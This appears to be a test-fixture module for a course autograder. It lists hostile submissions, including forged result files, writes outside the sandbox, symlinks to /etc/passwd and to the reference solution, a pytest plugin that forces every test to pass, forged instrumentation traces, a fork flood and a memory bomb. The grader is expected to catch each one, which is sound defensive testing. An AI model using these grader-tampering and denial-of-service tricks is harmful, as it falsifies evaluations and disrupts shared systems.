"""Hostile submissions: the reference or the template with one attack planted.

An attack is a few text edits of a copy of `reference/` or `student_template/` (never a stored
copy), plus optional extra files. Placeholders in the code, filled in per test run:
    @MARK@   a unique token; every file or process an attack leaves outside its scratch
             folder carries it in its name, so the test can search for it
    @OUT@    the --out folder of this grading (an attacker who knows where results go)
    @REF@    the reference solution's folder
    @OTHER@  another student's submission (a copy of the reference next to this one)
    @PORT@   a TCP port on 127.0.0.1 where the test serves the reference solution
    @REPO@   the grader's repository
`max_score` is what the submission would honestly earn without the attack: the template's
practical4 earns 0; the reference cut short after Part 1 earns only the answer about Part 1.
`says` are phrases the student's feedback (or the result's errors) must contain.
"""
from __future__ import annotations

from dataclasses import dataclass, field

P4 = "practical4/concepts.py"
HW3 = "hw3/model_parallel.py"
PART1_DONE = '    print("Output shape:", output.shape)\n'
TEMPLATE_TODO = '    raise NotImplementedError(\n        "TODO (Practical 4 Part 2)'
ONE_TRANSFER = '        out = out.to(device1)\n'


@dataclass(frozen=True)
class Attack:
    name: str
    base: str                   # "reference" or "student_template"
    file: str
    edits: list                 # (old, new); old=None prepends `new` to the file
    assignment: str
    tries: str
    max_score: float
    says: list = field(default_factory=list)
    extra_files: dict = field(default_factory=dict)
    check_timeout: float = 180.0
    # Set where the attack still succeeds: the test is xfail(strict) with this reason.
    succeeds: str | None = None


# -- escape: write results, another run's trace, files outside the scratch folder ----------------
ESCAPE = r'''
import glob as _g, json as _j, os as _o, subprocess as _sp, sys as _s
_fake = {"score": 10, "max_score": 10, "assignments": [{"id": "practical4", "score": 10}]}
_report = {"tests": [{"nodeid": "x", "outcome": "passed", "metadata": {"check": c}} for c in (
    "practical4.baseline_shape", "practical4.chunk_shapes", "practical4.chunks_equal_full",
    "practical4.mp_layer_devices", "practical4.mp_one_transfer", "practical4.mp_output_shape",
    "practical4.one_gpu_message")]}
_targets = ["@OUT@/result.json", "@OUT@/checks-practical4.json", "@OUT@/@MARK@-out",
            "@REF@/@MARK@-ref", "@REF@/practical4/@MARK@.py", "@OTHER@/@MARK@-other",
            _o.environ.get("PDL_SUBMISSION_ROOT", ".") + "/@MARK@-own",
            "/var/tmp/@MARK@-vartmp", "/root/@MARK@-home", "/dev/shm/@MARK@-shm",
            "@REPO@/@MARK@-repo", "@REPO@/grader/checks/@MARK@-conftest.py"]
_targets += [p + "/@MARK@-trace" for p in _g.glob(_o.path.join(_o.getcwd(), "..", "*"))]
_targets += [p for p in _g.glob(_o.path.join(_o.getcwd(), "..", "*", ".pdl-trace.jsonl*"))]
for _t in _targets:
    try:
        with open(_t, "w") as _h:
            _h.write(_j.dumps(_report if _t.endswith(".json") and "pytest" in _t else _fake))
        print("WROTE", _t)
    except OSError as _e:
        print("refused", _t, type(_e).__name__)
# A detached grandchild (setsid + double fork) that outlives the run and writes later.
_code = ("import ctypes, os, time\n"
         "ctypes.CDLL(None).prctl(15, b'@MARK@'[:15], 0, 0, 0)\n"
         "time.sleep(4)\n"
         "for d in ('.', '/var/tmp', '@OUT@'):\n"
         "    try: open(os.path.join(d, '@MARK@-late'), 'w').write('alive')\n"
         "    except OSError: pass\n"
         "time.sleep(30)\n")
if _o.fork() == 0:
    _o.setsid()
    if _o.fork() == 0:
        _o.execv(_s.executable, [_s.executable, "-c", _code])
    _o._exit(0)
_o.wait()
'''

# -- steal: get the solution from the reference, another student, a link, or the network --------
STEAL = r'''
import os as _o, socket as _sk
_src = None
for _p in ("@REF@/practical4/concepts.py", "@OTHER@/practical4/concepts.py",
           _o.path.join(_o.path.dirname(_o.path.abspath(__file__)), "solution_link.py")):
    try:
        _src = open(_p).read()
        print("READ", _p)
        break
    except OSError as _e:
        print("refused", _p, type(_e).__name__)
if _src is None:
    try:
        _c = _sk.create_connection(("127.0.0.1", @PORT@), timeout=2)
        _src = _c.makefile().read()
        print("READ over the network")
    except OSError as _e:
        print("network refused", type(_e).__name__)
try:
    print("passwd via link:", open(_o.path.join(_o.path.dirname(_o.path.abspath(__file__)),
                                                "passwd_link")).readline().strip())
except OSError as _e:
    print("passwd link refused", type(_e).__name__)
if _src and "def main" in _src:
    exec(compile(_src, __file__, "exec"))
    main()
    raise SystemExit(0)
'''

EVIL_PLUGIN = r'''
import os, pytest
open("/var/tmp/@MARK@-plugin-loaded", "w").write("loaded")

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
'''

# -- forge: hide a transfer from the instrumentation, or write the trace without doing the work --
HIDE_TRANSFER = '''\
        out = out.to(device1)
        from grader.vgpu.trace import get_trace as _gt
        _t = _gt()
        _file, _t._file, _listeners = _t._file, None, list(_t.listeners)
        _t.listeners.clear()
        out = out.to(device0).to(device1)  # a second round trip, unseen
        _t._file = _file
        _t.listeners.extend(_listeners)
'''
EXTRA_TRANSFER = '''\
        out = out.to(device1)
        out = out.to(device0).to(device1)  # a second round trip
'''
# The records a correct practical4 run writes (Parts 1-3), as a script would make them up.
FORGED_RECORDS = r'''
def _rec(event, **f):
    return _j.dumps({"event": event, "rank": 0, "t": 0.0, **f})
_lines = [_rec("forward_out", module="Sequential", shape=[64, 1000], device="cpu", sum=10.0,
               thread="MainThread")]
_lines += [_rec("forward_out", module="Sequential", shape=[32, 1000], device="cpu", sum=5.0,
                thread="MainThread")] * 2
_lines += [_rec("placement", module="Sequential", layers=[{"params": 2002000, "device": "cuda:0"}]),
           _rec("placement", module="Linear", layers=[{"params": 2001000, "device": "cuda:1"}]),
           _rec("to", src="cuda:0", dst="cuda:1", copied=True, bytes=512000, shape=[64, 2000]),
           _rec("forward_out", module="Linear", shape=[64, 1000], device="cuda:1", sum=1.0,
                thread="MainThread")]
'''
FORGE_TRACE = r'''
import json as _j, os as _o, sys as _s
_gpus = int(_o.environ.get("PDL_VGPU_GPUS", "0"))
if _gpus < 2:
    print("Model parallelism requires at least 2 GPUs")
    _s.exit(0)
''' + FORGED_RECORDS + r'''
_lines.insert(0, _rec("start", virtual=True, gpus=_gpus, pid=_o.getpid(), local_rank=0,
                      world_size=1))
with open(_o.environ["PDL_VGPU_TRACE"], "a") as _h:
    _h.write("\n".join(_lines) + "\n")
_s.exit(0)
'''
# Blind forgery: no grader name, no PDL_ setting: finds the trace file among its working
# folder's files and appends the records a correct run would write.
FORGE_BLIND = r'''
import json as _j, os as _o, sys as _s
import torch as _torch  # the trace file exists once torch is imported
if _torch.cuda.device_count() < 2:
    print("Model parallelism requires at least 2 GPUs")
    _s.exit(0)
''' + FORGED_RECORDS + r'''
for _name in _o.listdir("."):
    if "trace" in _name:
        with open(_name, "a") as _h:
            _h.write("\n".join(_lines) + "\n")
_s.exit(0)
'''
# The same hidden round trip as HIDE_TRANSFER, reaching the trace through the garbage collector
# instead of importing the grader.
HIDE_VIA_GC = '''\
        out = out.to(device1)
        import gc as _gc
        _t = [o for o in _gc.get_objects() if hasattr(o, "listeners") and hasattr(o, "_file")][0]
        _file, _t._file, _listeners = _t._file, None, list(_t.listeners)
        _t.listeners.clear()
        out = out.to(device0).to(device1)  # a second round trip, unseen
        _t._file = _file
        _t.listeners.extend(_listeners)
'''

# -- denial of service -------------------------------------------------------------------------
FORK_FLOOD = r'''
import subprocess as _sp, sys as _s
# From a small interpreter (forking the torch-laden process 500 times would mostly test the
# kernel's page-table copying): up to 3000 children that sleep, named with the token.
_flood = _sp.run([_s.executable, "-S", "-c", """
import ctypes, os, time
ctypes.CDLL(None).prctl(15, b'@MARK@'[:15], 0, 0, 0)
n = refused = 0
for _ in range(3000):
    try:
        if os.fork() == 0:
            os.close(1); os.close(2)  # not the output pipes: the parent's run() would wait
            time.sleep(60)
            os._exit(0)
        n += 1
    except OSError:
        refused += 1
print('forked', n, 'refused', refused)
"""], capture_output=True, text=True)
print(_flood.stdout, _flood.stderr[-300:])
'''
MEMORY_BOMB = r'''
_blobs = []
while True:
    _blobs.append(b"x" * (256 * 2**20))
'''
ENDLESS_LOOP = "\nwhile True:\n    pass\n"
ENDLESS_OUTPUT = "\nimport sys as _s\nwhile True:\n    _s.stdout.write('spam ' * 20000 + '\\n')\n"


ATTACKS = [
    Attack("memory_bomb", "student_template", P4, [(None, MEMORY_BOMB)], "practical4",
           "allocates 256 MiB blocks until stopped", 0, says=["more memory than allowed"]),
    Attack("escape_writes", "student_template", P4, [(None, ESCAPE)], "practical4",
           "writes result.json and the pytest report into --out, files into reference/, the "
           "repo, the grader, another student's folder, /var/tmp, $HOME and other runs' "
           "scratch folders and traces; leaves a detached grandchild that writes later; the "
           "submission also ships a pre-made result.json and pytest report",
           0, says=["NotImplementedError"],
           extra_files={"result.json": '{"score": 10, "max_score": 10}',
                        "checks-practical4.json": '{"tests": []}',
                        "practical4/result.json": '{"score": 10}'}),
    Attack("steal_solution", "student_template", P4, [(None, STEAL)], "practical4",
           "reads the reference solution, another student's folder, a symlink to the "
           "reference, fetches the solution from a 127.0.0.1 server, and runs what it got",
           0, says=["NotImplementedError"],
           extra_files={"practical4/solution_link.py": ("symlink", "@REF@/practical4/concepts.py"),
                        "practical4/passwd_link": ("symlink", "/etc/passwd")}),
    Attack("linked_script", "student_template", P4, [], "practical4",
           "concepts.py itself is a symlink to the reference's concepts.py",
           0, says=["No such file or directory"],
           extra_files={P4: ("symlink", "@REF@/practical4/concepts.py")}),
    Attack("conftest_plugin", "student_template", P4, [], "practical4",
           "conftest.py files, a pytest.ini and a pytest11-style plugin module in the "
           "submission with a makereport hookwrapper that marks every test passed",
           0, says=["NotImplementedError"],
           extra_files={"conftest.py": EVIL_PLUGIN, "practical4/conftest.py": EVIL_PLUGIN,
                        "pdl_evil.py": EVIL_PLUGIN,
                        "pytest.ini": "[pytest]\naddopts = -p pdl_evil\n",
                        "tox.ini": "[pytest]\naddopts = -p pdl_evil\n"}),
    Attack("sys_exit_at_import", "student_template", P4, [(None, "import sys\nsys.exit(0)\n")],
           "practical4", "sys.exit(0) before anything runs", 0,
           says=["no forward pass of the model on the whole batch of 64"]),
    Attack("os_exit_at_import", "student_template", P4, [(None, "import os\nos._exit(0)\n")],
           "practical4", "os._exit(0) before anything runs", 0,
           says=["no forward pass of the model on the whole batch of 64"]),
    Attack("sys_exit_mid_script", "reference", P4,
           [(PART1_DONE, PART1_DONE + "    import sys\n    sys.exit(0)\n")], "practical4",
           # 0.4 for the answer sheet's output shape, which Part 1 shows
           "sys.exit(0) right after Part 1", 0.4,
           says=["no forward pass of the model on part of the batch after Part 1"]),
    Attack("os_exit_mid_script", "reference", P4,
           [(PART1_DONE, PART1_DONE + "    import os\n    os._exit(0)\n")], "practical4",
           "os._exit(0) right after Part 1", 0.4,
           says=["no forward pass of the model on part of the batch after Part 1"]),
    Attack("extra_transfer_honest", "reference", P4, [(ONE_TRANSFER, EXTRA_TRANSFER)],
           # 6 for the code (not Part 3's one transfer), 1.6 for the answer sheet (its transfer
           # count, 1, is not this code's 3)
           "practical4", "(control) a second cuda:0->cuda:1 round trip, not hidden", 7.6,
           says=["3 move(s) of the activation between GPUs"]),
    # In-process instrumentation can be switched off by code in the same process; the grader
    # reads the source first (grader/integrity/scan.py) and withholds the points for review.
    Attack("hide_transfer", "reference", P4, [(ONE_TRANSFER, HIDE_TRANSFER)], "practical4",
           "the same extra round trip, with the trace file and listeners switched off around it",
           7.6, says=["Withheld for review by the course staff",
                      "reaches into the grader: imports grader.vgpu.trace"]),
    Attack("hide_transfer_gc", "reference", P4, [(ONE_TRANSFER, HIDE_VIA_GC)], "practical4",
           "the same hidden round trip, finding the trace object through gc.get_objects()",
           7.6, says=["Withheld for review by the course staff",
                      "inspects or rewrites the running interpreter: reads get_objects"]),
    Attack("forge_trace", "student_template", P4, [(None, FORGE_TRACE)], "practical4",
           "does no work; writes the trace records a correct run would write, and prints "
           "the 1-GPU message", 0, says=["names the grader's setting 'PDL_VGPU_TRACE'",
                                         "not written by the grader's instrumentation"]),
    Attack("forge_trace_blind", "student_template", P4, [(None, FORGE_BLIND)], "practical4",
           "does no work; finds the trace file in its working folder without naming anything "
           "of the grader, and appends the records a correct run would write", 0,
           says=["not written by the grader's instrumentation (no valid seal)"]),
    Attack("pyc_smuggle", "student_template", HW3, [], "hw3",
           "ships hw3/__pycache__/model_parallel.cpython-*.pyc compiled from the reference's "
           "model, stamped with the template source's size and time, so Python would load it "
           "instead of the source the grader reads", 0,
           # The template's base code is what ran: its two-GPU split leaves a third GPU idle.
           says=["no layer on cuda:2 (layers per GPU [3, 3, 0])"],
           extra_files={"hw3/model_parallel.py": ("pyc_of", "@REF@/hw3/model_parallel.py")}),
    Attack("fork_flood", "student_template", P4, [(None, FORK_FLOOD)], "practical4",
           "forks up to 3000 sleeping children (bounded), then carries on", 0,
           says=["started more processes at once than a run may ("]),
    # A budget of 1 s for the two that never end: they hang whatever the budget, and each of
    # their runs spins the whole budget (2 s had cost 1.5 and 3.8 CPU-s more per grading, 4 s
    # 4 CPU-s more than 2 s).
    Attack("endless_loop", "student_template", P4, [(None, ENDLESS_LOOP)], "practical4",
           "never ends", 0, says=["did not finish in time"], check_timeout=1),
    Attack("endless_output", "student_template", P4, [(None, ENDLESS_OUTPUT)], "practical4",
           "prints without end", 0, says=["did not finish in time"], check_timeout=1),
    Attack("hw3_exit_at_import", "student_template", HW3, [(None, "import os\nos._exit(0)\n")],
           "hw3", "os._exit(0) when the HW3 probe imports the model file", 0,
           says=["the probe stopped before reaching it"]),
]
